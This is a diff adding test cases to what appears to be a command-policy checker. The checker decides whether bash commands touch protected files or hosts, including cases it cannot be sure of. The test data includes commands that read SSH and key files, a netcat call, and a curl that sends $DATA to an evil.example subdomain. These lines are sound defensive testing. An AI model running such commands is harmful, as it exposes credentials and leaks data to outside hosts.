@@ -162,6 +162,14 @@ describe('file_access, in a shell', () => {
     [{ type: 'file_access', access: 'write', path: { not: ['src/**'] } }, 'touch src/a/b', false],
     [{ type: 'file_access', access: 'write', path: { not: ['src/**'] } }, 'touch test/a', true],
     [{ type: 'file_access', path: { matches: '\\.key$' } }, 'cat a.key', true],
+    // What is found beside the unknown part is there, whatever that part is.
+    [{ type: 'file_access', path: { matches: '\\.key$' } }, 'cat *.key', true],
+    [{ type: 'file_access', path: { matches: '(^|/)\\.ssh(/|$)' } }, 'cat ~/.ssh/*', true],
+    [{ type: 'file_access', path: { matches: '(^|/)\\.ssh(/|$)' } }, 'cat "~/.ssh$X"', 'call-uncertain'],
+    [{ type: 'file_access', path: { matches: '/key\\b' } }, 'cat /a/key*', 'call-uncertain'],
+    [{ type: 'file_access', path: { matches: '/key\\B' } }, 'cat /a/key*', 'call-uncertain'],
+    [{ type: 'file_access', path: { matches: 'a.*b' } }, 'cat /a"$X"b', 'call-uncertain'],
+    [{ type: 'file_access', path: { matches: 'z' } }, 'cat /a"$X"', 'call-uncertain'],
     [{ type: 'file_access', access: 'execute', path: { under: 'tmp' } }, 'sh /tmp/x.sh', true],
     [{ type: 'file_access', access: 'write', by: 'tee' }, 'a | tee b', true],
   ])('%j at %s: %s', (condition, command, truth) => expect(holds(condition, bash(command))).toBe(truth))
@@ -212,6 +220,8 @@ describe('network_access', () => {
     [{ type: 'network_access', port: 443 }, 'curl https://a.example', true],
     [{ type: 'network_access', host: { equals: 'a.example' } }, 'wget a.example/x', true],
     [{ type: 'network_access', host: { matches: '^10[.]' } }, 'nc 10.0.0.1 80', true],
+    [{ type: 'network_access', host: { matches: '[.]evil[.]example$' } }, 'curl "https://$DATA.evil.example/"', 'call-uncertain'],
+    [{ type: 'network_access', host: { matches: '^10[.]' } }, 'curl "https://$H.example/"', 'call-uncertain'],
   ])('%j at %s: %s', (condition, command, truth) => expect(holds(condition, bash(command))).toBe(truth))
 })
 
